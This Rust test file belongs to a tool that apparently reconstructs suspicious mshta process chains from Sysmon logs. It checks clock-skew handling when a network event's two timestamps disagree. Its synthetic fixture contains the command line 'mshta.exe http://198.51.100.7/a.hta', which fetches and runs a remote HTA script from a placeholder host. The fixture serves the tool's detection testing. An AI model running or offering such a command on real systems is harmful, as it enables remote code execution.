//! An event with two clocks that disagree: real Sysmon network events
//! (EVTX recordings) carry a `UtcTime` hours before their own record's
//! `TimeCreated`. The chain must not show a connection before its process
//! started: the clock consistent with the process's lifetime is used and
//! the item is flagged `clock_skew`.

use mshta_chain_core::{analyze, Config};

fn evtx(event_id: u32, record_time: &str, data: &str) -> String {
    format!(
        r##"{{"Event":{{"System":{{"EventID":{event_id},"Computer":"WS1","Channel":"Microsoft-Windows-Sysmon/Operational","TimeCreated":{{"#attributes":{{"SystemTime":"{record_time}"}}}}}},"EventData":{{{data}}}}}}}"##
    )
}

fn lines(guid_on_network: bool) -> String {
    let mshta = evtx(
        1,
        "2019-05-14T10:00:00.100Z",
        r#""UtcTime":"2019-05-14 10:00:00.000","ProcessGuid":"{aaaaaaaa-0000-0000-0000-000000000001}","ProcessId":"4100","Image":"C:\\Windows\\System32\\mshta.exe","CommandLine":"mshta.exe http://198.51.100.7/a.hta","ParentImage":"C:\\Windows\\explorer.exe","ParentProcessId":"900""#,
    );
    // Recorded 30 s after the start, but its UtcTime says 3 hours earlier.
    let guid = if guid_on_network { r#""ProcessGuid":"{aaaaaaaa-0000-0000-0000-000000000001}","# } else { "" };
    let net = evtx(
        3,
        "2019-05-14T10:00:30.000Z",
        &format!(
            r#""UtcTime":"2019-05-14 07:00:29.000",{guid}"ProcessId":"4100","Image":"C:\\Windows\\System32\\mshta.exe","Initiated":"true","DestinationIp":"198.51.100.7","DestinationPort":"80""#
        ),
    );
    // A DNS query whose clocks agree: taken as it is.
    let dns = evtx(
        22,
        "2019-05-14T10:00:01.000Z",
        r#""UtcTime":"2019-05-14 10:00:00.900","ProcessGuid":"{aaaaaaaa-0000-0000-0000-000000000001}","ProcessId":"4100","Image":"C:\\Windows\\System32\\mshta.exe","QueryName":"update.example""#,
    );
    format!("{mshta}\n{net}\n{dns}\n")
}

#[test]
fn the_clock_consistent_with_the_process_lifetime_is_used_and_flagged() {
    for guid in [true, false] {
        let report = analyze(lines(guid).as_bytes(), &Config::default()).unwrap();
        assert_eq!(report.stats.rejected, 0, "{:?}", report.errors);
        assert_eq!(report.chains.len(), 1);
        let chain = &report.chains[0];
        assert_eq!(chain.network.len(), 1, "guid {guid}: the connection is attributed");
        let n = &chain.network[0];
        assert_eq!(n.time, "2019-05-14T10:00:30.000Z", "guid {guid}: not before the process started");
        assert!(n.clock_skew, "guid {guid}: flagged");
        assert!(!n.late);
        assert_eq!(chain.dns[0].time, "2019-05-14T10:00:00.900Z");
        assert!(!chain.dns[0].clock_skew, "clocks that agree are not flagged");
        let json = serde_json::to_value(chain).unwrap();
        assert_eq!(json["network"][0]["clock_skew"], true);
        assert!(json["dns"][0].get("clock_skew").is_none(), "written only when set");
    }
}
